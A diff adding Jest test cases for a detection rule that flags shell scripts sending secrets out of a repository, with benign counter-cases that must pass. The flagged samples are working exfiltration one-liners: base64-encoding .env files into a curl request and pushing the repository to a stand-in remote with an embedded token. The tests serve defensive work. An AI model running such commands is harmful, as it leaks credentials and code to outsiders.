@@ -90,3 +90,22 @@ test.each([
 ])("other data may be sent: %s %#", async (path, text) => {
   expect(await rulesIn(path, text)).toEqual([]);
 });
+
+/** A whole file of settings that is encoded, and a repository that goes to a stranger. */
+test.each([
+  `id=$(cat .env .env.local 2>/dev/null | base64 -w0)\ncurl -s "${TO}?id=$id" -o badge.svg\n`,
+  `curl -s "${TO}?id=$(base64 -w0 .env)"\n`,
+  "git remote add copy https://u:tok-5512ab@git.drop.invalid/in/r.git\ngit push -q copy HEAD\n",
+])("does not leave: %s", async (text) => {
+  expect(await rulesIn("a.sh", text)).toContain("secret-elsewhere");
+});
+
+test.each([
+  'gh secret set ENV_FILE --body "$(base64 -w0 .env)"\n',
+  "base64 -w0 logo.png | curl -d @- https://api.example.com/logo\n",
+  "git remote add up https://user:<token>@git.acme.dev/a/b.git\n",
+  "git remote add up https://oauth2:TOKEN@git.acme.dev/a/b.git\n",
+  "git remote add up https://x-access-token:$TOKEN@github.com/a/b.git\n",
+])("may be done: %s", async (text) => {
+  expect(await rulesIn("a.sh", text)).toEqual([]);
+});
